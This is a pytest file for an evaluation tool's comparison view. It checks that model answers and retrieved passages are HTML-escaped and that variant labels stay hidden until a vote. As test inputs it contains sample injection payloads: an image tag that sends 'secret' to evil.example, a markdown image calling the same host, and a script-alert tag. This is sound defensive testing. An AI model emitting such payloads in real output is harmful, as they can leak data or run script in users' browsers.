"""What a model or a document says is shown, never run, and cannot make the page load anything."""

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eval.compare_view import evidence, harmless, pane_labels, panes
from eval.variants import IDS
from eval.workbench import Workbench
from tests.eval.test_comparison import QUESTION, SETUP, answered


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "2 < 3 and <img src='http://evil.example/?q=secret'>",
            "2 &lt; 3 and &lt;img src='http://evil.example/?q=secret'>",
        ),
        ("see ![chart](http://evil.example/x.png)", "see !\\[chart](http://evil.example/x.png)"),
        ("use `a < b` here", "use `a < b` here"),
        ("```\nif a < b:\n```\n<form>", "```\nif a < b:\n```\n&lt;form>"),
        ("```\nstill <code> while it streams", "```\nstill <code> while it streams"),
        (r"\`<img src=x>\`", r"\`&lt;img src=x>\`"),
    ],
)
def test_markup_is_shown_and_not_run(text: str, shown: str) -> None:
    assert harmless(text) == shown


@given(st.text(alphabet="a <!['\"/>()\n", max_size=60))
def test_without_code_no_tag_and_no_image_is_left(text: str) -> None:
    assert "<" not in harmless(text)
    assert "![" not in harmless(text)


def test_labels_tell_nothing_before_the_vote(loaded: Workbench) -> None:
    comparison = answered(loaded)
    assert pane_labels(comparison, revealed=False) == ["A", "B", "C", "D"]
    revealed = pane_labels(comparison, revealed=True)
    assert [label.split(" · ")[1].split(":")[0] for label in revealed] == list(comparison.order)
    plain = answered(loaded, replace(SETUP, mode="open"))
    assert pane_labels(plain, revealed=True) == [
        "A · base: model alone",
        "B · tuned: adapter",
        "C · rag: documents",
        "D · combined: adapter + documents",
    ]


def test_passages_are_escaped(loaded: Workbench) -> None:
    comparison = answered(loaded)
    comparison.hits = [replace(comparison.hits[0], text="<script>alert(1)</script>", document="<b>.md")]
    shown = evidence(comparison)
    assert "<script>" not in shown
    assert "&lt;script&gt;" in shown
    assert "<b>.md" not in shown
    assert all(variant in shown for variant in IDS)
    assert QUESTION not in shown


def test_a_pair_fills_two_panes(loaded: Workbench) -> None:
    comparison = answered(loaded, replace(SETUP, mode="pair"))
    assert pane_labels(comparison, revealed=False) == ["A", "B"]
    assert [bool(pane) for pane in panes(comparison)] == [True, True, False, False]
    assert (
        "combined" not in evidence(answered(loaded, replace(SETUP, mode="pair", pair=("rag", "base")))).split("<h4>")[0]
    )
